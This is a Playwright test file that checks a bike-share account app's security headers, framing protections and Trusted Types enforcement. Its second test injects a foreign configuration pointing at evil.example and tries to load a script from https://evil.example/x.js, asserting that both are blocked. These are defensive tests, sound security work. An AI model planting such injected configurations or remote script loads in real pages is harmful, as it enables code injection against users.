import { readdirSync, readFileSync } from "node:fs";
import { expect } from "@playwright/test";
import { demoOrigins } from "../../../demo/origins.ts";
import { fetchToken, logIn } from "../account/account-test.ts";
import { openHostPage } from "../host-page.ts";
import { openLoggedIn, test } from "./standalone-test.ts";

const DOCUMENTS = ({ pathname }: URL): boolean => pathname.startsWith("/account/") && !pathname.includes(".");
const CHUNKS = "dist/standalone/chunks";

test("headers forbid framing, sniffing and referrers; without them a stranger's frame gets no screen, login or message, and one with an unknown parent logs in only by typing", async ({
  page,
  world,
}) => {
  await openLoggedIn(page, world, "/survey");
  await expect(page).toHaveTitle("Survey – Indego");
  const received = async () => (await world.state()).received.length;
  // The screen continues to load after its title is set, and ends with its page.
  await page.waitForLoadState("networkidle");
  await page.goto("about:blank");
  const before = await received();
  const served: Record<string, string>[] = [];
  await page.route(DOCUMENTS, async (route) => {
    const answer = await route.fetch();
    served.push(answer.headers());
    const { "content-security-policy": _, ...headers } = answer.headers();
    await route.fulfill({ response: answer, headers });
  });
  await page.route("https://stranger.example/", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<!doctype html><title>Somebody</title><script>
        window.heard = [];
        addEventListener("message", ({ data }) => heard.push(data));
      </script><iframe src="${new URL("/account/?system=phl&access_token=t", demoOrigins().pagesOrigin)}"></iframe>`,
    }),
  );
  const warned = page.waitForEvent("console", (message) => message.text().includes("frameParents"));
  await page.goto("https://stranger.example/");
  await warned;
  await expect(page.frameLocator("iframe").locator("#bikeshare")).toBeEmpty();
  expect(await page.evaluate("window.heard")).toEqual([]);
  expect(await received()).toBe(before);
  for (const headers of served) {
    const policy = headers["content-security-policy"];
    expect(policy).toContain(`frame-ancestors ${demoOrigins().pagesOrigin}`);
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toMatch(/unsafe|\*(?!\.js\.stripe\.com)/);
    expect(headers).toMatchObject({
      "cross-origin-opener-policy": "same-origin-allow-popups",
      "permissions-policy": expect.stringContaining("camera=(), geolocation=(), microphone=()"),
      "referrer-policy": "no-referrer",
      "strict-transport-security": "max-age=63072000",
      "x-content-type-options": "nosniff",
    });
  }
  expect(served).not.toEqual([]);

  await page.unroute(DOCUMENTS);
  const token = await fetchToken(world, "phl");
  // Firefox has no `ancestorOrigins`.
  for (const file of readdirSync(CHUNKS)) {
    const text = readFileSync(`${CHUNKS}/${file}`, "utf8");
    if (!text.includes("ancestorOrigins")) continue;
    const body = text.replaceAll("ancestorOrigins", "noOrigins");
    await page.route(`**/account/chunks/${file}`, (route) => route.fulfill({ contentType: "text/javascript", body }));
  }
  await openHostPage(page, `<iframe src="/account/trips?system=phl&access_token=${token}"></iframe>`, "");
  const frame = page.frameLocator("iframe");
  await expect(frame.getByRole("heading", { name: /Log in/ })).toBeVisible();
  await logIn(frame);
  await expect(frame.getByRole("heading", { name: "Trip History", level: 1 })).toBeVisible();
  // The choice is not stored: the next iframe asks again.
  await openHostPage(page, '<iframe src="/account/trips?system=phl"></iframe>', "");
  await expect(page.frameLocator("iframe").getByRole("heading", { name: /Log in/ })).toBeVisible();
});

const STRIPE = "https://js.stripe.com/**";

/** A configuration that somebody has written into the page. */
const FOREIGN = '<script type="application/json" id="bikeshare-config">{"publicUrl":"https://evil.example/"}</script>';

// The demo's page translator excludes Trusted Types from the policy.
test("under Trusted Types the page works up to the card, ignores a configuration in it, and loads Stripe's script alone from a string", async ({
  page,
  world,
}) => {
  const stripe: string[] = [];
  await page.route(DOCUMENTS, async (route) => {
    const answer = await route.fetch();
    const policy = answer.headers()["content-security-policy"];
    const headers = {
      ...answer.headers(),
      "content-security-policy": `${policy}; require-trusted-types-for 'script'; trusted-types default`,
    };
    // Without the stand-in the page requests Stripe's own script.
    const body = (await answer.text())
      .replace('<script src="/stripe-stand-in.js"></script>', "")
      .replace("<body>", `<body>${FOREIGN}`);
    return route.fulfill({ response: answer, headers, body });
  });
  await page.route(STRIPE, (route) => {
    stripe.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: "" });
  });
  const elsewhere: string[] = [];
  page.on("request", (request) => request.url().includes("evil.example") && elsewhere.push(request.url()));
  await openLoggedIn(page, world, "/update-payment");
  await page.getByRole("button", { name: "Replace card" }).click();
  await expect.poll(() => stripe.length).toBeGreaterThan(0);
  const refused = await page.evaluate(() => {
    const tag = document.createElement("script");
    try {
      tag.src = "https://evil.example/x.js";
    } catch (error) {
      return error instanceof Error ? error.name : "thrown";
    }
    return "taken";
  });
  expect(refused).toBe("TypeError");
  expect(elsewhere).toEqual([]);
  expect((await world.state()).received.map(({ path }) => path)).toContain("/bikeshare/1/user");
});
